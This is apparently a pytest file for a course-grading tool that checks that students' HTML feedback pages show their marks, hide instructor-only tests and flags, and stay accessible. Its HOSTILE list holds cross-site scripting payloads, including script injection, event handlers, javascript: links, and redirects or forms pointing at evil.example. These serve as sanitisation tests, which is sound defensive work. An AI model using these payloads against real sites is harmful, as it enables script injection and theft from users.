"""The page that a student gets: marks and reasons, nothing hidden, nothing that runs, headings in order."""

from __future__ import annotations

import argparse
import json
import os
import re
import shutil
from html.parser import HTMLParser
from itertools import pairwise

import nbformat
import pytest
from grading_course import NAME, executed, graded, hand_in, make_course, result, source
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output
from sqlalchemy import update

from lib.assignments.originals import keep_original
from lib.grading.feedback.clean import clean_html, code_html, markdown_html, output_html
from lib.grading.feedback.command import feedback_command
from lib.grading.feedback.page import feedback_page
from lib.grading.gradebook.cells import COMMENT
from lib.grading.gradebook.marks import CellMarks, StudentMarks
from lib.grading.gradebook.opening import open_gradebook
from lib.grading.gradebook.recorder import Recorder

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
MARKS = StudentMarks(
    "ada",
    NAME,
    cells=(
        CellMarks("add-marks", 10, False, 6.0, None, None, False),
        CellMarks("twice-marks", 6, False, 0.0, None, None, False),
        CellMarks("why", 4, True, None, None, None, True),
    ),
)


def released():
    """The notebook as it was given out, as JSON."""
    notebook = json.loads(executed(add=None, twice=None, why=None))
    return notebook


class Reader(HTMLParser):
    """What a page consists of."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.text, self.attributes = [], [], []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.text.append(data)


def page(content=None, marks=MARKS, given=None, **changes):
    notebook = json.loads(executed(**changes) if content is None else content)
    given = result(add=6.0, twice=0.0, said=["The sign of `b` is lost."]) if given is None else given
    return feedback_page(marks, notebook, released(), given)


def assert_harmless(page):
    """Nothing in it runs, and nothing is fetched."""
    read = Reader(page)
    live = (
        "script iframe object embed form input button link base svg math audio video canvas template noscript"
    )
    assert not set(live.split()) & set(read.tags)
    for tag, name, value in read.attributes:
        assert not name.startswith("on"), (tag, name)
        if name in ("src", "srcset", "data", "action", "poster", "background", "xlink:href"):
            assert value.startswith("data:image/"), (tag, value)
        if name == "href":
            assert value.startswith(("http://", "https://", "mailto:", "#")), value
        if name == "style":
            assert re.fullmatch(r"width:\d+%", value), value
    assert len(re.findall("<style>", page)) == 1
    assert "@import" not in page.split("</style>")[1]


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=' data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](vbscript:alert(1))",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=q></form>",
    "<style>.marks{display:none}</style>",
    "<p style='position:fixed;background:url(https://evil.example)'>x</p>",
    "<div class=marks id=add-marks>20 of 20 marks</div>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "</style></head><body onload=alert(1)>",
    "</pre></div><script>alert(1)</script>",
    "$$</span><script>alert(1)</script>$$",
    "$\\href{javascript:alert(1)}{x}$ $x<img src=x onerror=alert(1)>$",
    "\\begin{equation}<script>alert(1)</script>\\end{equation}",
    "```mermaid\n<script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "# A heading that is mine\n\n###### and a deep one",
    "\u202egnp.exe \x00\x07\x1b[31mred",
    "{title} {style} {0}",
]

MEDIA = (
    "text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "image/png",
    "application/javascript", "application/vnd.jupyter.widget-view+json",
)  # fmt: skip


@pytest.mark.family(share=3)
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_a_students_runs_wherever_it_stands(text):
    outputs = [
        new_output("stream", name="stdout", text=text),
        new_output("stream", name="stderr", text=text),
        new_output("error", ename=text, evalue=text, traceback=[text]),
        *(new_output("display_data", {media: text, "text/plain": text}) for media in MEDIA),
        new_output("display_data", {"image/png": PNG}, metadata={"image/png": {"alt": text + '" onload="x'}}),
    ]
    mine = [new_markdown_cell(text), new_code_cell(text, outputs=outputs)]
    made = page(add=f"    {text}", why=text, outputs=outputs, extra=mine)
    assert_harmless(made)
    assert made.count('id="add-marks"') == 1
    assert made.count("</html>") == 1
    assert not re.search("[\x00\x07\x1b\u202e]", made)


def test_marks_parts_and_reasons_are_there():
    made = page()
    text = " ".join("".join(Reader(made).text).split())
    for part in (
        "6 of 20 marks",
        "6 of 10 marks",
        "value: 6 of 6",
        "types: 0 of 4",
        "The sign of b is lost.",
    ):
        assert part in text
    assert "Not marked yet" in text
    assert "1 written answer is not marked yet" in text


def test_headings_have_their_order_and_pictures_their_alt_texts():
    alt = {"image/png": {"alt": "A falling curve"}}
    picture = new_output("display_data", {"image/png": PNG, "text/plain": "<Figure>"}, metadata=alt)
    bare = new_output("display_data", {"image/png": PNG})
    made = page(outputs=[picture, bare], extra=[new_markdown_cell("# mine\n#### deep")])
    levels = [int(tag[1]) for tag in Reader(made).tags if re.fullmatch("h[1-6]", tag)]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after <= before + 1 for before, after in pairwise(levels))
    assert 'alt="A falling curve"' in made
    assert not re.search(r'<img(?![^>]*alt="[^"]+")', made)


def test_hidden_sources_are_never_shown_even_after_stock_autograde():
    notebook = source()  # with its hidden tests, as `nbgrader autograde` puts them back
    for cell in notebook.cells:
        if cell.id == "add-marks":
            told = {"ename": "AssertionError", "evalue": "secret_sum", "traceback": ["secret_sum / 42"]}
            cell.outputs = [new_output("error", **told)]
    made = page(nbformat.writes(notebook))
    assert "secret_sum" not in made
    assert "HIDDEN" not in made


def test_words_for_persons_only_are_not_told():
    flags = [
        ("copied", "equals bob's"),
        ("tampered", "patched np.allclose"),
        ("unsandboxed", "no sandbox"),
        ("late", "two days after"),
        ("similar", "to bob"),
        ("error", "cell [3]: expected 42"),
    ]
    made = page(given=result(add=6.0, twice=0.0, flags=flags))
    assert "after the deadline" in made
    assert "raised an error when" in made
    for word in ("bob", "similar", "copied", "tampered", "sandbox", "np.allclose", "expected 42"):
        assert word not in made


def test_outputs_and_pages_have_an_end():
    long = new_output("stream", name="stdout", text="x" * 10_000_000)
    picture = new_output("display_data", {"image/png": "A" * 9_000_000})
    made = page(outputs=[long, picture] * 2, extra=[new_markdown_cell("a " * 400_000)])
    assert len(made) < 2_000_000
    assert "left out" in made


def test_strange_outputs_are_passed_over():
    for strange in (
        {},
        {"output_type": "display_data", "data": None},
        {"output_type": "display_data", "data": {"image/png": 3, "text/plain": ["a", "b"]}},
        {"output_type": "display_data", "data": {"text/html": "<p>" * 5000}},
        {"output_type": "error", "traceback": None, "ename": 1},
        {"output_type": "stream", "text": None},
    ):
        assert isinstance(output_html(strange), str)


def test_without_a_notebook_the_page_says_so():
    none = result(nothing=True, flags=[("missing", "nothing came")])
    made = feedback_page(MARKS, None, released(), none)
    assert "No notebook of this assignment was handed in" in made
    assert "def add" not in made
    assert_harmless(made)


def test_attached_pictures_are_shown_and_code_is_coloured():
    attached = {"curve.png": {"image/png": PNG}}
    assert f"data:image/png;base64,{PNG}" in markdown_html("![a curve](attachment:curve.png)", attached)
    assert 'class="k"' in code_html("def f(): pass")
    assert clean_html("<h2>x</h2>") == "<p><strong>x</strong></p>"


@pytest.mark.family(share=6)
def test_a_screen_reader_and_a_phone_can_read_it_by_day_and_by_night(tmp_path):
    from axe_playwright_python.sync_playwright import Axe
    from playwright.sync_api import sync_playwright

    chromium = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if not chromium:
        if os.environ.get("CI") == "true":
            pytest.fail("no chromium on this computer")
        pytest.skip("no chromium on this computer")
    picture = new_output("display_data", {"image/png": PNG, "text/html": "<table><tr><td>1</table>"})
    (tmp_path / "page.html").write_text(
        page(outputs=[picture], extra=[new_markdown_cell("x" * 500)]), "utf-8"
    )
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        for scheme in ("light", "dark"):
            shown = browser.new_context(
                color_scheme=scheme, viewport={"width": 360, "height": 700}, bypass_csp=True
            )
            tab = shown.new_page()
            tab.goto((tmp_path / "page.html").as_uri())
            assert tab.evaluate("document.documentElement.scrollWidth") <= 360
            found = Axe().run(tab).response["violations"]
            assert [(each["id"], each["nodes"][0]["html"]) for each in found] == []
        browser.close()


@pytest.fixture
def course(tmp_path):
    make_course(tmp_path)
    keep_original(NAME, {f"{NAME}.ipynb": executed(add=None, twice=None, why=None)}, tmp_path)
    return tmp_path


def arguments(**changes):
    return argparse.Namespace(**{"assignment": "a9", "student": [], "db": "", **changes})


def test_each_student_gets_a_page_where_nbgrader_looks_for_it(course):
    hand_in(course, "ada")
    with open_gradebook(course) as gradebook:
        with Recorder(gradebook, NAME) as recorder:
            graded(course, recorder, result("ada"), executed(why="Ada's words"))
            graded(course, recorder, result("bob", add=0.0), executed(why="Bob's words"))
        with gradebook.begin() as connection:
            connection.execute(update(COMMENT).values(manual_comment="Well <b>done</b>."))
    said = []
    assert feedback_command(arguments(), course, said.append) == 0
    pages = {
        path.parts[-3]: path.read_text("utf-8") for path in course.glob(f"feedback/*/{NAME}/{NAME}.html")
    }
    assert set(pages) == {"ada", "bob"}
    assert "Ada&#x27;s words" in pages["ada"] or "Ada's words" in pages["ada"]
    assert "Bob" not in pages["ada"]
    assert "bob" not in pages["ada"]
    assert "Well &lt;b&gt;done&lt;/b&gt;." in pages["ada"]
    assert (course / "feedback" / "ada" / NAME / "timestamp.txt").exists()
    assert said[-1].startswith("2 pages")
    assert feedback_command(arguments(student=["eve"]), course, said.append) == 1


def told(course, **changes):
    said = []
    assert feedback_command(arguments(**changes), course, said.append) == 1
    return said


def test_who_has_no_page_is_told_with_a_command_that_helps(course):
    (line,) = told(course)
    assert "nobody has handed anything in yet; `course submissions import a9" in line
    hand_in(course, "zoe")
    assert told(course) == ["a9: nobody has marks yet; `course grade a9` gives them"]
    with open_gradebook(course) as gradebook, Recorder(gradebook, NAME) as recorder:
        graded(course, recorder, result("ada"), executed())
    assert told(course, student=["ada", "zoe", "s98"]) == [
        "zoe has no marks for a9: `course grade a9 --student zoe` grades it",
        "s98 has no marks for a9: `course submissions list a9` shows who has handed in",
        f"1 page in {course / 'feedback'}",
    ]


@pytest.mark.parametrize("edited", ["", "nothing is left of it"])
def test_titles_of_tasks_need_no_ids_of_cells(edited):
    """Intake and Colab give cells other ids; a student may change the course's text."""
    usual, notebook = page(), json.loads(executed())
    for k, cell in enumerate(notebook["cells"]):
        cell["id"] = f"student-{k}"
        if edited and cell["cell_type"] == "markdown" and not cell["metadata"].get("nbgrader"):
            cell["source"] = edited
    given = result(add=6.0, twice=0.0, said=["The sign of `b` is lost."])
    found = feedback_page(MARKS, notebook, released(), given)
    heads = [re.findall(r"<h\d.*?</h\d>|<td><a.*?</a>", each) for each in (usual, found)]
    assert [each for each in heads[0] if each not in heads[1]] == []
    assert found == usual or edited
